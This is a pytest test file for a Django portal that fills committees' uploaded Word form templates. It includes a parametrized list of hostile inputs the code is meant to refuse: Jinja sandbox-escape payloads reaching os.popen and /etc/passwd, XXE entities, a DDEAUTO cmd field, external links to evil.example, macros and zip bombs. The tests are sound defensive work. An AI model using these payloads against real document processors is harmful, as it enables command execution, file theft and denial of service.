"""The committees' own Word forms: filled in faithfully, and nothing of what a foreign file may try gets through."""

import datetime
import io
import zipfile

import docx
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from activities.models import PaperTemplate
from activities.paper.form_values import PLACEHOLDERS, form_values, sample_sheet
from branch_portal.docx_forms import filled, placeholders_of, read_upload
from branch_portal.files import FileRefused
from tests.activities.paper_records import full_record
from tests.activities.test_sheet import text_of_docx

VALUES = form_values(sample_sheet())
EXTERNAL = (
    '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
    'Target="http://evil.example/x.png" TargetMode="External"/></Relationships>'
)


def form(*lines: str, change=None, extra=None) -> bytes:
    """A .docx with these lines and a table of the roll; `change(name, content)` rewrites parts, `extra` adds some."""
    document = docx.Document()
    for line in lines or ("{{ 主题 }}",):
        document.add_paragraph(line)
    table = document.add_table(3, 2)
    table.cell(0, 0).text = "{%tr for 项 in 到会名单 %}"
    table.cell(1, 0).text, table.cell(1, 1).text = "{{ 项.序号 }}", "{{ 项.姓名 }}"
    table.cell(2, 0).text = "{%tr endfor %}"
    out = io.BytesIO()
    document.save(out)
    if change is None and not extra:
        return out.getvalue()
    result = io.BytesIO()
    with zipfile.ZipFile(out) as old, zipfile.ZipFile(result, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            content = old.read(name)
            new.writestr(name, change(name, content) if change else content)
        for name, content in (extra or {}).items():
            new.writestr(name, content)
    return result.getvalue()


def swap(part: str, old: bytes, new: bytes):
    def change(name: str, content: bytes) -> bytes:
        assert name != part or old in content
        return content.replace(old, new, 1) if name == part else content

    return change


def test_every_placeholder_is_explained_and_filled():
    assert {entry.name for entry in PLACEHOLDERS} == set(VALUES)
    for entry in PLACEHOLDERS:
        if entry.parts:
            assert set(entry.parts) == set(VALUES[entry.name][0]), entry.name


def test_text_goes_through_as_it_is():
    values = VALUES | {"主题": "A & B <c> {{ 地点 }} 𠮷😀\x01", "内容": "甲\n乙"}
    text = text_of_docx(filled(form("{{ 主题 }}", "{{ 内容 }}"), values))
    assert "A&B<c>{{地点}}𠮷😀" in text and "甲" in text and "示例丁" in text


@pytest.mark.parametrize(
    "line",
    [
        "{{ ''.__class__ }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ 主题['__class__'] }}",
        "{{ 主题|attr('__class__') }}",
        "{{ 主题.upper() }}",
        "{{ 到会名单.append(1) }}",
        "{{ self._TemplateReference__context }}",
        "{{ lipsum.__globals__ }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ namespace() }}",
        "{% include '/etc/passwd' %}",
        "{% import 'os' as os %}",
        "{{ 不存在 }}",
        "{% for 项 in 到会名单 %}",
        "{{ 'x' * 9999999999 }}",
        "{% for a in [1] * 99999999 %}xxxxxxxxxx{% endfor %}",
    ],
)
def test_programs_in_a_form_are_refused(line):
    with pytest.raises(FileRefused):
        placeholders_of(form(line), VALUES)


def bomb() -> bytes:
    return form(extra={"word/media/image9.png": b"\0" * 80_000_000})


def lying_bomb() -> bytes:
    """A zip whose headers claim that its part is small."""
    content = bytearray(bomb())
    size = (80_000_000).to_bytes(4, "little")
    while (place := content.find(size)) >= 0:
        content[place : place + 4] = (10).to_bytes(4, "little")
    return bytes(content)


DOCUMENT, RELATIONS = "word/document.xml", "word/_rels/document.xml.rels"
HOSTILE = {
    "external picture": lambda: form(change=swap(RELATIONS, b"</Relationships>", EXTERNAL.encode())),
    "attached template": lambda: form(
        extra={
            "word/_rels/settings.xml.rels": b'<Relationships xmlns="x"><Relationship Id="a" Type="t" '
            b'Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
        }
    ),
    "macro": lambda: form(extra={"word/vbaProject.bin": b"x"}),
    "macro type": lambda: form(
        change=swap("[Content_Types].xml", b"document.main+xml", b"document.macroEnabled.main+xml")
    ),
    "object": lambda: form(extra={"word/embeddings/oleObject1.xlsx": b"x"}),
    "html chunk": lambda: form(extra={"word/afchunk.mht": b"x"}),
    "document type": lambda: form(
        change=swap(DOCUMENT, b"<w:document ", b'<!DOCTYPE x [<!ENTITY a "b">]><w:document ')
    ),
    "xxe in settings": lambda: form(
        change=swap(
            "word/settings.xml",
            b"<w:settings ",
            b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:settings ',
        )
    ),
    "dde field": lambda: form(
        change=swap(
            DOCUMENT,
            b"<w:body>",
            b"<w:body><w:p><w:r><w:instrText> DDEAUTO cmd /c calc </w:instrText></w:r></w:p>",
        )
    ),
    "split field": lambda: form(
        change=swap(
            DOCUMENT,
            b"<w:body>",
            b"<w:body><w:p><w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE x</w:instrText></w:r></w:p>",
        )
    ),
    "bomb": bomb,
    "lying bomb": lying_bomb,
    "many parts": lambda: form(extra={f"word/x{number}.xml": b"<a/>" for number in range(400)}),
    "a plain zip": lambda: zipped({"a.txt": b"x"}),
    "a workbook": lambda: zipped({"xl/workbook.xml": b"<a/>", "[Content_Types].xml": b"<Types/>"}),
    "half a file": lambda: form()[:2000],
    "way out": lambda: form(extra={"../../evil.xml": b"<a/>"}),
}


def zipped(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_files_are_refused(name):
    with pytest.raises(FileRefused):
        placeholders_of(HOSTILE[name](), VALUES)


@pytest.mark.parametrize("content", [b"", b"{\\rtf1 x}", b"<html></html>", b"\xd0\xcf\x11\xe0" + b"x" * 99])
def test_other_files_are_refused_at_the_door(content):
    with pytest.raises(FileRefused):
        read_upload(io.BytesIO(content), name="表.docx")


# --- pages ---


def upload(client, content: bytes, **fields):
    page = client.get("/activities/templates/new/").content.decode()
    key = page.partition('name="submission_key" value="')[2].partition('"')[0]
    data = {"submission_key": key, "name": "镇党委记录表", "kind": "", "active_from": "2026-01-01"} | fields
    return client.post("/activities/templates/new/", data | {"file": SimpleUploadedFile("表.docx", content)})


def test_a_committee_uploads_tries_and_its_branches_print_on_it(world, as_user):
    staff = as_user(world.staff)
    answer = upload(staff, form("本镇记录表", "主题：{{ 主题 }}"), organization=world.committee.uid)
    assert answer.status_code == 302
    template = PaperTemplate.objects.get()
    assert template.placeholders == ["主题", "到会名单"]
    assert "本镇记录表" in text_of_docx(staff.get(f"/activities/templates/{template.uid}/trial.docx").content)
    record = full_record(world)
    url = f"/activities/records/{record.uid}/sheet.docx"
    text = text_of_docx(as_user(world.secretary_a).get(url).content)
    assert "本镇记录表" in text and "讨论A&B<计划>" in text and "马晓东" in text
    # A plain member's copy has no roll on the committee's form either.
    assert "马晓东" not in text_of_docx(as_user(world.member_a).get(url).content)
    own = as_user(world.secretary_a).get(f"{url}?layout=portal")
    assert "本镇记录表" not in text_of_docx(own.content)
    staff.post(f"/activities/templates/{template.uid}/withdraw/")
    assert "本镇记录表" not in text_of_docx(as_user(world.secretary_a).get(url).content)


def test_nearest_kind_and_day_decide(world, as_user):
    staff = as_user(world.staff)
    for words, fields in (
        ("镇通用", {"organization": world.committee.uid}),
        ("镇大会", {"organization": world.committee.uid, "kind": "general_meeting"}),
        ("总支通用", {"organization": world.general_branch.uid, "active_from": "2026-03-06"}),
        (
            "镇大会新",
            {"organization": world.committee.uid, "kind": "general_meeting", "active_from": "2026-02-01"},
        ),
    ):
        assert upload(staff, form(words), **fields).status_code == 302
    client = as_user(world.secretary_a)
    for day, expected in (
        (datetime.date(2026, 1, 9), "镇大会"),
        (datetime.date(2026, 3, 5), "镇大会新"),
        (datetime.date(2026, 3, 9), "总支通用"),
    ):
        record = full_record(world, day=day)
        text = text_of_docx(client.get(f"/activities/records/{record.uid}/sheet.docx").content)
        assert text.startswith(expected) and not (expected == "镇大会" and "新" in text[:4])
    before = full_record(world, day=datetime.date(2025, 12, 1))
    assert "镇大会" not in text_of_docx(client.get(f"/activities/records/{before.uid}/sheet.docx").content)


def test_a_refused_form_says_why_and_may_be_mended(world, as_user):
    staff = as_user(world.staff)
    answer = upload(staff, form("{{ 主体 }}"), organization=world.committee.uid)
    assert "平台不认识的名称：主体" in answer.content.decode()
    assert not PaperTemplate.objects.exists()
    foreign = upload(staff, form(), organization=world.committee_x.uid)
    assert "不在您的范围内" in foreign.content.decode()


def test_other_committees_forms_do_not_exist(world, as_user):
    upload(as_user(world.staff), form(), organization=world.committee.uid)
    template = PaperTemplate.objects.get()
    for path in ("", "trial.docx", "original.docx"):
        assert as_user(world.staff_x).get(f"/activities/templates/{template.uid}/{path}").status_code == 404
        assert (
            as_user(world.secretary_a).get(f"/activities/templates/{template.uid}/{path}").status_code == 403
        )
    assert "镇党委记录表" not in as_user(world.staff_x).get("/activities/templates/").content.decode()
